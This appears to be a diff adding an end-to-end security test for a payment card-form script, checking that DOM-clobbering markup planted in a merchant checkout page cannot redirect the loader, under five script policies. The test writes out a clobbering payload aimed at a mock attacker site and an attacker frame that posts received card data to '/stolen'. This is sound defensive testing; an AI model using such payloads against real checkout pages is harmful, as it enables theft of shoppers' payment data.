@@ -1,0 +1,119 @@
+/**
+ * Markup that a stranger got into a merchant's page (a review, a name, a comment), as a sanitizer lets it through:
+ * no script, only elements whose names stand before what scripts read from `document` and `window` (DOM clobbering).
+ */
+import { CARD, checkoutPage, KNOWN_BUYER } from './checkout-page.ts';
+import { expect, test } from './fixtures.ts';
+import { type ForeignSite, startForeignSite } from './foreign-site.ts';
+import { readManifest } from './hosting.ts';
+import type { Intent, Service } from './service.ts';
+
+const NONCE = 'c2hvcA';
+
+/** What a page's policy says of scripts; `null`: the page has none. Each page with its way to load the script. */
+const POLICIES: Readonly<Record<string, (service: Service, shop: ForeignSite) => string | null>> = {
+  'no policy': () => null,
+  'a nonce': () => `script-src 'nonce-${NONCE}'`,
+  'strict-dynamic': () => `script-src 'nonce-${NONCE}' 'strict-dynamic'; base-uri 'none'`,
+  'Trusted Types': () => "require-trusted-types-for 'script'; trusted-types 'none'",
+  'addresses and integrity': (service, shop) =>
+    `script-src ${shop.url} ${service.url}/partner/v1/card-form/; frame-src ${service.url}/partner/v1/card-form/`,
+};
+
+/** The service's script, pinned where the policy's name says so. */
+const loaderOf = async (service: Service, policy: string, attributes = '') => {
+  const { release, files } = await readManifest();
+  const path = `/partner/v1/card-form/${release}/card-form.js`;
+  return policy.endsWith('integrity')
+    ? `<script src="${service.url}${path}" integrity="${files[path]}" crossorigin ${attributes}></script>`
+    : `<script nonce="${NONCE}" src="${service.url}/partner/v1/card-form.js" ${attributes}></script>`;
+};
+
+/** Whatever the loader and the npm package read of `document`, by name. */
+const READ_OF_DOCUMENT = [
+  'addEventListener',
+  'baseURI',
+  'body',
+  'createElement',
+  'documentElement',
+  'featurePolicy',
+  'head',
+  'host',
+  'location',
+  'querySelector',
+  'querySelectorAll',
+];
+
+/** Lies in the page and is never fetched itself: whatever reaches the attacker was sent by a script. */
+const image = (name: string, more = '') => `<img hidden loading="lazy" name="${name}" ${more}>`;
+
+/** What the stranger wrote. The two collections pass the sanitizers that many shops have. */
+const markup = (evil: ForeignSite) => `<p>A review by Mallory.</p>
+${image('currentScript', `src="${evil.url}/v1/card-form.js" data-card-form data-publishable-key="pk_live_evil"`)}
+<a id="CardForm"></a><a id="CardForm" name="version"></a><a id="CardForm" name="mount"></a>
+<a id="trustedTypes"></a><a id="addEventListener"></a><a id="origin"></a><a id="navigator"></a>
+${READ_OF_DOCUMENT.map((name) => image(name)).join('\n')}`;
+
+/** All that the attacker would serve: a frame that takes what it is sent, and a script that runs in the page. */
+const evilFiles = async (evil: ForeignSite) => {
+  const { release } = await readManifest();
+  const hello = JSON.stringify({ channel: 'card-form', type: 'hello', protocols: [1], release });
+  const frame = `<script>
+onmessage = ({ data }) => fetch('/stolen', { method: 'POST', body: JSON.stringify(data) });
+parent.postMessage(${hello}, '*');
+</script>`;
+  const open = { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' };
+  evil.put(`/v1/card-form/${release}/frame.html`, frame);
+  evil.put(`/v1/card-form/${release}/elements.js`, {
+    type: 'text/javascript',
+    body: 'document.title = "pwned";',
+    headers: open,
+  });
+};
+
+const withSites = async (run: (shop: ForeignSite, evil: ForeignSite) => Promise<void>) => {
+  const [shop, evil] = [await startForeignSite(), await startForeignSite('127.0.0.1')];
+  try {
+    await evilFiles(evil);
+    await run(shop, evil);
+  } finally {
+    await shop.stop();
+    await evil.stop();
+  }
+};
+
+const mountScript = (service: Service, intent: Intent) =>
+  `CardForm.mount('#card-form', ${JSON.stringify({
+    publishableKey: service.keys.publishable,
+    clientSecret: intent.client_secret,
+    locale: 'en',
+    defaultValues: KNOWN_BUYER,
+  })});`;
+
+for (const [name, policy] of Object.entries(POLICIES)) {
+  test(`issue 13, A1: elements named as what the script reads change nothing, under ${name}`, async ({
+    page,
+    service,
+  }) => {
+    await withSites(async (shop, evil) => {
+      const intent = await service.createIntent();
+      shop.put('/shop.js', { type: 'text/javascript', body: mountScript(service, intent) });
+      const csp = policy(service, shop);
+      const url = shop.put('/checkout', {
+        headers: csp === null ? {} : { 'Content-Security-Policy': csp },
+        body: `<!doctype html><title>Shop</title><link rel="icon" href="data:,">
+${markup(evil)}
+<div id="card-form"></div>
+${await loaderOf(service, name)}
+<script nonce="${NONCE}" src="/shop.js"></script>`,
+      });
+      await page.goto(url, { waitUntil: 'domcontentloaded' });
+      const checkout = checkoutPage(page);
+      await checkout.fillCard(CARD.visa);
+      await checkout.pay();
+      await expect(checkout.outcome).toHaveText('Payment received');
+      expect(evil.requests).toEqual([]);
+      expect(await service.record(intent.id)).toMatchObject({ charges: 1, confirms: 1 });
+    });
+  });
+}
